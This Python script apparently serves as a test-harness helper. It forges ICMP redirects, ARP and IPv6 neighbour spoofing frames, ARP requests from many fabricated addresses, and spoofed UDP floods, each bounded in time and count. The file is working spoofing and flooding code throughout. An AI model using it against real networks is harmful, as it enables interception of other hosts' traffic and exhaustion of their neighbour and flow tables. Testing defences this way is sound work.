# SPDX-License-Identifier: BSD-3-Clause
"""Says to a host what changes what its kernel believes of others: where they are, or which flows
there are. Bounded in count, and over after some seconds.

lie_to_kernel.py redirect ROUTER HOST TARGET GATEWAY
    tells HOST, as if it were ROUTER, that TARGET is reached by GATEWAY.
lie_to_kernel.py claim IP HOST_IP HOST_MAC [IP HOST_IP HOST_MAC]
    tells HOST that IP is at this host's eth0 (ARP, or IPv6 neighbour discovery); at the end says
    how many frames have come that were for IP.
lie_to_kernel.py neighbours IP COUNT
    asks the host that has IP for its address, in the name of so many others of its network.
lie_to_kernel.py flows IP PORT COUNT
    sends one datagram each from so many addresses and ports.

Each begins with a line of its input, before which it says "ready". `claim` ends after a second and
a half; the others say "told" when they have said all, and `redirect` goes on until its input ends,
or for 20 seconds.
"""

import importlib
import ipaddress
import select
import socket
import struct
import sys
import time
from collections.abc import Callable
from pathlib import Path

sys.path.append(str(Path(__file__).parent))  # which Python leaves out where it is to be safe
_lengths = importlib.import_module("forge_lengths")

_LONGEST_S = 20.0
_CLAIM_S = 1.5
_PAUSE_S = 0.02
_ALL, _ARP, _IPV6 = 0x0003, 0x0806, 0x86DD
_REQUEST, _REPLY = 1, 2
_NEIGHBOUR_ADVERTISEMENT, _OVERRIDE, _TARGET_ADDRESS = 136, 0x20000000, 2
_BROADCAST = b"\xff" * 6


def _say(said: str) -> None:
    print(said, flush=True)


def _until(seconds: float, say: Callable[[], object]) -> None:
    end = time.monotonic() + seconds
    say()
    _say("told")
    while time.monotonic() < end and not select.select([sys.stdin], [], [], _PAUSE_S)[0]:
        say()


def redirect(router: str, host: str, target: str, gateway: str) -> None:
    here, to, other = map(ipaddress.ip_address, (router, host, target))
    # The answer to a ping, as it may have sent one: no port has to be known.
    echo = _lengths.ip((to, other), 1, struct.pack("!BBHI", 0, 0, 0xFFFF, 0), 0x4000, 1)
    body = struct.pack("!BBH", 5, 1, 0) + ipaddress.ip_address(gateway).packed + echo
    body = body[:2] + struct.pack("!H", _lengths.checksum(body)) + body[4:]
    packet = _lengths.ip((here, to), 1, body, 0, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as forger:
        _until(_LONGEST_S, lambda: forger.sendto(packet, (host, 0)))


def _arp(operation: int, mac: bytes, ip: bytes, to_mac: bytes, to_ip: bytes) -> bytes:
    head = struct.pack("!HHHBBH", _ARP, 1, 0x0800, 6, 4, operation)
    return _BROADCAST + mac + head + mac + ip + to_mac + to_ip


def _claim_of(mac: bytes, ip: str, host_ip: str, host: bytes) -> bytes:
    """A frame by which a host learns that an address is at `mac`."""
    claimed, told = ipaddress.ip_address(ip), ipaddress.ip_address(host_ip)
    if claimed.version == 4:
        return host + _arp(_REPLY, mac, claimed.packed, host, told.packed)[6:]
    body = struct.pack("!BBHI", _NEIGHBOUR_ADVERTISEMENT, 0, 0, _OVERRIDE) + claimed.packed
    body += struct.pack("!BB", _TARGET_ADDRESS, 1) + mac
    pseudo = claimed.packed + told.packed + struct.pack("!II", len(body), 58)
    body = body[:2] + struct.pack("!H", _lengths.checksum(pseudo + body)) + body[4:]
    packet = _lengths.ip((claimed, told), 58, body, 0, 0)
    packet = packet[:7] + b"\xff" + packet[8:]  # the hop limit: from the same link
    return host + mac + struct.pack("!H", _IPV6) + bytes(packet)


def claim(*words: str) -> None:
    read = 0
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_ALL)) as wire:
        wire.bind(("eth0", _ALL))
        mac = wire.getsockname()[4]
        claims = [
            _claim_of(mac, ip, host_ip, bytes.fromhex(host.replace(":", "")))
            for ip, host_ip, host in zip(words[::3], words[1::3], words[2::3], strict=True)
        ]
        end = time.monotonic() + _CLAIM_S
        next_ = 0.0
        while (now := time.monotonic()) < end:
            if now >= next_:
                next_ = now + _PAUSE_S
                for one in claims:
                    wire.send(one)
            if select.select([wire], [], [], _PAUSE_S)[0]:
                read += wire.recv(65536)[:6] == mac
    _say(str(read))


def neighbours(ip: str, count: str) -> None:
    asked = ipaddress.IPv4Address(ip)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_ALL)) as wire:
        wire.bind(("eth0", 0))
        mac = wire.getsockname()[4]
        for number in range(int(count)):
            asks = ipaddress.IPv4Address(int(asked) + 16 + number).packed
            wire.send(_arp(_REQUEST, mac, asks, bytes(6), asked.packed))
    _say("told")


def flows(ip: str, port: str, count: str) -> None:
    target = ipaddress.IPv4Address(ip)
    near = ipaddress.IPv4Address("10.99.0.0")
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as forger:
        forger.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
        datagram = struct.pack("!HHHH", 9, int(port), 8, 0)
        packet = bytearray(_lengths.ip((near, target), 17, datagram, 0, 1))
        place = (ip, 0)
        for number in range(int(count)):
            struct.pack_into("!H", packet, 14, number & 0xFFFF)
            struct.pack_into("!H", packet, 20, 1024 + (number >> 16))
            forger.sendto(packet, place)  # the kernel makes the sum of the head
    _say("told")


def main() -> None:
    _say("ready")
    sys.stdin.readline()
    kinds: dict[str, Callable[..., None]] = {
        "redirect": redirect,
        "claim": claim,
        "neighbours": neighbours,
        "flows": flows,
    }
    kinds[sys.argv[1]](*sys.argv[2:])


if __name__ == "__main__":
    main()
